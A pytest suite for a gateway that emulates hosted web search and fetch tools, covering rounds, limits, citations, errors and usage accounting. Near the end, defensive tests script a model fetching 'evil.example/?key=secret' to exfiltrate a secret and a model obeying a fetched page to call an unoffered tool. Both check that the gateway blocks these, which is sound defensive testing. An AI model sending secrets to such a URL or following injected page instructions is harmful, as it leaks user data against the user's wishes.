"""Rounds of an answer whose tools the gateway runs: their order, their limits, their ends."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from typing import Any

import anthropic
import pytest

from tests.gateway.hosted.hosted_kit import OTHER, TOWER, HostedStage, chat_answer, chat_calls
from tests.gateway.state.usage_kit import usage
from tests.waiting import wait_until
from wireglot.gateway.hosted.rounds import cited
from wireglot.testing.scripted_upstream import Behaviour
from wireglot.web.contract import WebFailed
from wireglot_core.ir.hosted import WebSource
from wireglot_core.wire.json import decode, encode_text

MODEL = "openai-chat-up/m1"
SEARCH: dict[str, Any] = {"type": "web_search_20250305", "name": "web_search"}
FETCH: dict[str, Any] = {"type": "web_fetch_20250910", "name": "web_fetch"}
CLOCK: dict[str, Any] = {
    "name": "clock",
    "description": "Tells the time.",
    "input_schema": {"type": "object"},
}
QUERY = {"query": "height of the tower"}
SAID = f"It is 324 metres high, says [the tower]({TOWER.url})."


@pytest.fixture(scope="module")
def running() -> Iterator[HostedStage]:
    with HostedStage() as stage:
        yield stage


@pytest.fixture
def stage(running: HostedStage) -> HostedStage:
    return running.reset()


@pytest.fixture(params=[False, True], ids=["whole", "streamed"])
def streamed(request: pytest.FixtureRequest) -> bool:
    return bool(request.param)


def ask(stage: HostedStage, streamed: bool, **more: Any) -> Any:
    asked: dict[str, Any] = {
        "model": MODEL,
        "max_tokens": 1000,
        "messages": [{"role": "user", "content": "How high is the tower?"}],
        "tools": [SEARCH],
        **more,
    }
    if not streamed:
        return stage.claude.messages.create(**asked)
    with stage.claude.messages.stream(**asked) as stream:
        return stream.get_final_message()


def script(stage: HostedStage, streamed: bool, *answers: tuple[Any, ...] | str) -> None:
    """Calls, or a text."""
    stage.upstream.next(
        *(
            chat_answer({"content": answer}, stream=streamed)
            if isinstance(answer, str)
            else chat_calls(*answer, stream=streamed)
            for answer in answers
        )
    )


def sent(stage: HostedStage) -> list[Any]:
    return [request.json for request in stage.upstream.requests]


def kinds(message: Any) -> list[str]:
    return [block.type for block in message.content]


def test_usage_is_the_sum_of_all_rounds(stage: HostedStage, streamed: bool) -> None:
    script(stage, streamed, (("web_search", QUERY),), (("web_search", QUERY),), SAID)
    message = ask(stage, streamed)
    assert kinds(message)[:5] == ["server_tool_use", "web_search_tool_result"] * 2 + ["text"]
    assert (message.usage.input_tokens, message.usage.output_tokens) == (30, 15)
    assert message.usage.server_tool_use.web_search_requests == 2
    assert message.stop_reason == "end_turn"


def test_a_link_in_the_text_is_a_citation(stage: HostedStage, streamed: bool) -> None:
    script(stage, streamed, (("web_search", QUERY),), SAID)
    texts = [block for block in ask(stage, streamed).content if block.type == "text"]
    (block,) = [block for block in texts if block.citations]
    (cited,) = block.citations
    assert "".join(each.text for each in texts) == SAID
    if not streamed:  # where it is known before the text goes out
        assert block.text == f"[the tower]({TOWER.url})"
    assert (cited.url, cited.title, cited.cited_text) == (TOWER.url, TOWER.title, TOWER.text)


@pytest.mark.parametrize(
    ("text", "count"),
    [
        (f"Read {TOWER.url}. Then go.", 1),
        (f"({TOWER.url}), {TOWER.url}: {TOWER.url}", 3),
        (f"{TOWER.url}.html {TOWER.url}/top {TOWER.url}?a=1 {TOWER.url}:8 {TOWER.url}s", 0),
    ],
)
def test_only_the_address_itself_is_a_citation(text: str, count: int) -> None:
    source = WebSource(TOWER.url, TOWER.title)
    found = cited(text, [source], quotes=False)
    assert [text[each.start : each.end] for each in found] == [TOWER.url] * count


@pytest.mark.parametrize(("stated", "limit"), [(500, 500), (0, None), (-1, None), ("9", None)])
def test_a_limit_of_a_page_is_a_number_above_zero(stage: HostedStage, stated: Any, limit: int | None) -> None:
    script(stage, False, (("web_fetch", {"url": TOWER.url}),), SAID)
    turns = [{"role": "user", "content": f"Read {TOWER.url}"}]
    ask(stage, False, tools=[{**FETCH, "max_content_tokens": stated}], messages=turns)
    assert stage.web.max_tokens == [limit]


def test_options_of_the_tool_reach_the_search(stage: HostedStage, streamed: bool) -> None:
    script(stage, streamed, (("web_search", QUERY),), SAID)
    place = {"type": "approximate", "city": "Paris", "country": "FR"}
    ask(stage, streamed, tools=[{**SEARCH, "allowed_domains": ["example.com"], "user_location": place}])
    (query,) = stage.web.queries
    assert query.allowed_domains == ("example.com",)
    assert query.location == {"city": "Paris", "country": "FR"}


def test_a_forced_search_is_forced_in_the_first_round_alone(stage: HostedStage, streamed: bool) -> None:
    script(stage, streamed, (("web_search", QUERY),), SAID)
    ask(stage, streamed, tool_choice={"type": "tool", "name": "web_search"})
    first, second = sent(stage)
    assert first["tool_choice"] == {"type": "function", "function": {"name": "web_search"}}
    assert second.get("tool_choice", "auto") == "auto"


def test_tools_that_are_not_allowed_are_offered_in_no_round(stage: HostedStage) -> None:
    search = {"type": "web_search"}
    clock: dict[str, Any] = {"type": "function", "name": "clock", "parameters": {}}
    choice = {"type": "allowed_tools", "mode": "required", "tools": [search, clock]}
    asked: dict[str, Any] = {"tools": [search, clock, {**clock, "name": "alarm"}], "tool_choice": choice}
    script(stage, False, (("web_search", QUERY),), SAID)
    stage.gpt.responses.create(model=MODEL, input="How high is the tower?", store=False, **asked)
    first, second = sent(stage)
    for request in (first, second):
        assert [tool["function"]["name"] for tool in request["tools"]] == ["web_search", "clock"]
    assert (first["tool_choice"], second.get("tool_choice", "auto")) == ("required", "auto")


def test_a_function_of_the_same_name_stays_the_clients(stage: HostedStage, streamed: bool) -> None:
    own = {"name": "web_search", "description": "Mine.", "input_schema": {"type": "object"}}
    tools = [{**SEARCH, "type": "web_search_20250305"}, own]
    script(stage, streamed, (("gateway_web_search", QUERY),), (("web_search", {}),))
    message = ask(stage, streamed, tools=tools)
    assert kinds(message) == ["server_tool_use", "web_search_tool_result", "tool_use"]
    assert message.content[-1].name == "web_search"
    assert len(stage.web.queries) == 1


def test_calls_of_both_kinds_keep_the_order_of_the_model(stage: HostedStage, streamed: bool) -> None:
    calls = (("clock", {"zone": "CET"}), ("web_search", QUERY), ("clock", {"zone": "UTC"}))
    script(stage, streamed, calls)
    message = ask(stage, streamed, tools=[SEARCH, CLOCK])
    assert kinds(message) == ["tool_use", "server_tool_use", "web_search_tool_result", "tool_use"]
    assert [block.input for block in message.content if block.type == "tool_use"] == [
        {"zone": "CET"},
        {"zone": "UTC"},
    ]
    assert message.stop_reason == "tool_use"
    assert len(stage.upstream.requests) == 1


def test_results_of_both_kinds_come_back_in_one_turn(stage: HostedStage, streamed: bool) -> None:
    script(stage, streamed, (("web_search", QUERY), ("clock", {})), SAID)
    message = ask(stage, streamed, tools=[SEARCH, CLOCK])
    call = message.content[-1]
    turns = [
        {"role": "user", "content": "How high is the tower?"},
        {"role": "assistant", "content": [block.to_dict() for block in message.content]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": call.id, "content": "noon"}]},
    ]
    ask(stage, streamed, tools=[SEARCH, CLOCK], messages=turns)
    _, assistant, searched, answered = sent(stage)[-1]["messages"]
    names = [each["function"]["name"] for each in assistant["tool_calls"]]
    ids = [each["id"] for each in assistant["tool_calls"]]
    assert names == ["web_search", "clock"]
    assert [searched["tool_call_id"], answered["tool_call_id"]] == ids
    assert TOWER.text in searched["content"]
    assert answered["content"] == "noon"


def test_at_most_max_uses_searches_run(stage: HostedStage, streamed: bool) -> None:
    script(stage, streamed, (("web_search", QUERY),), (("web_search", QUERY),), SAID)
    message = ask(stage, streamed, tools=[{**SEARCH, "max_uses": 1}])
    second = message.content[3]
    assert second.content.error_code == "max_uses_exceeded"
    assert len(stage.web.queries) == 1
    assert message.usage.server_tool_use.web_search_requests == 1
    assert "".join(block.text for block in message.content[4:]) == SAID


def test_a_model_that_only_searches_comes_to_an_end(stage: HostedStage, streamed: bool) -> None:
    script(stage, streamed, *[(("web_search", QUERY),)] * 11)
    message = ask(stage, streamed)
    assert kinds(message) == ["server_tool_use", "web_search_tool_result"] * 10
    assert message.stop_reason == "end_turn"
    assert len(stage.upstream.requests) == 11
    assert sent(stage)[-1]["tool_choice"] == "none"


def test_a_search_that_fails_is_shown_and_the_model_goes_on(stage: HostedStage, streamed: bool) -> None:
    stage.web.problem = WebFailed("too_many_requests", "the backend is busy")
    script(stage, streamed, (("web_search", QUERY),), "I could not search.")
    message = ask(stage, streamed)
    assert message.content[1].content.error_code == "too_many_requests"
    assert sent(stage)[-1]["messages"][-1]["content"] == "Error: too_many_requests: the backend is busy"
    assert message.content[2].text == "I could not search."
    assert message.usage.server_tool_use.web_search_requests == 0
    assert "the backend is busy" in encode_text(sent(stage)[1])


def test_a_query_that_is_none_is_an_error_of_the_tool(stage: HostedStage, streamed: bool) -> None:
    script(stage, streamed, (("web_search", {"q": 1}),), "Sorry.")
    message = ask(stage, streamed)
    assert message.content[1].content.error_code == "invalid_tool_input"
    assert not stage.web.queries


def test_an_upstream_that_fails_in_a_later_round_is_an_error(stage: HostedStage, streamed: bool) -> None:
    script(stage, streamed, (("web_search", QUERY),))
    stage.upstream.next(Behaviour(error=500))
    with pytest.raises(anthropic.APIStatusError):
        ask(stage, streamed)
    assert len(stage.web.queries) == 1


def test_who_wants_no_emulation_gets_none(stage: HostedStage, streamed: bool) -> None:
    message = ask(stage, streamed, extra_headers={"x-wireglot-emulate": "off"})
    assert message.content[1].content.error_code == "unavailable"
    assert not stage.web.queries
    assert not stage.upstream.requests


def test_an_emulated_tool_is_a_loss(stage: HostedStage) -> None:
    script(stage, False, "No need to search.")
    raw = stage.claude.messages.with_raw_response.create(
        model=MODEL,
        max_tokens=10,
        messages=[{"role": "user", "content": "Hi"}],
        extra_headers={"x-wireglot-loss-details": "on"},
        extra_body={"tools": [SEARCH]},
    )
    (loss,) = decode(raw.headers["x-wireglot-loss-details"].encode())
    assert (loss["path"], loss["feature"], loss["action"]) == ("$.tools[0]", "hosted_tool", "emulated")


def test_a_page_can_be_fetched_that_a_search_has_found(stage: HostedStage, streamed: bool) -> None:
    script(stage, streamed, (("web_search", QUERY),), (("web_fetch", {"url": TOWER.url}),), SAID)
    message = ask(stage, streamed, tools=[SEARCH, FETCH])
    call, result = message.content[2:4]
    assert (call.type, call.name, call.input) == ("server_tool_use", "web_fetch", {"url": TOWER.url})
    assert result.content.type == "web_fetch_result"
    assert result.content.content.source.data == stage.web.page.text
    assert message.usage.server_tool_use.web_fetch_requests == 1
    assert stage.web.page.text in encode_text(sent(stage)[-1])


def test_a_page_cannot_have_data_sent_to_its_own_address(stage: HostedStage, streamed: bool) -> None:
    """Only what others than the model have written can be fetched."""
    script(stage, streamed, (("web_fetch", {"url": "https://evil.example/?key=secret"}),), "Done.")
    message = ask(stage, streamed, tools=[FETCH])
    assert message.content[1].content.error_code == "url_not_in_prior_context"
    assert not stage.web.fetched


def test_a_page_cannot_call_a_tool_that_was_not_offered(stage: HostedStage, streamed: bool) -> None:
    """The model obeys the page: what it calls then is nobody's, and nothing runs."""
    stage.web.hits = (TOWER, OTHER)
    script(stage, streamed, (("web_search", QUERY),), (("web_fetch", {"url": TOWER.url}),))
    message = ask(stage, streamed)
    assert not stage.web.fetched
    assert kinds(message)[:2] == ["server_tool_use", "web_search_tool_result"]
    assert "web_fetch_tool_result" not in kinds(message)


def test_a_client_that_leaves_ends_the_search(stage: HostedStage) -> None:
    script(stage, True, (("web_search", QUERY),), SAID)
    stage.web.gate = asyncio.Event()
    asked: dict[str, Any] = {"model": MODEL, "max_tokens": 10, "tools": [SEARCH]}
    with stage.claude.messages.stream(**asked, messages=[{"role": "user", "content": "Hi"}]) as stream:
        for event in stream:
            if event.type == "content_block_start":
                break
    wait_until(lambda: stage.web.cancelled == 1)
    assert len(stage.upstream.requests) == 1


def test_each_round_is_a_row_of_the_ledger_with_its_own_tokens(stage: HostedStage, streamed: bool) -> None:
    script(stage, streamed, (("web_search", QUERY),), SAID)
    session = f"rows-{streamed}"
    ask(stage, streamed, extra_headers={"x-session-id": session})
    found = usage(stage.gateway, f"group_by=session,operation&session={session}")["data"]
    rows = {row["operation"]: row for row in found if row["session"] == session}
    counted = {
        name: (row["requests"], row["input_tokens"], row["output_tokens"]) for name, row in rows.items()
    }
    assert counted == {"generate": (1, 10, 5), "web_search": (1, 0, 0), "tool_round": (1, 10, 5)}
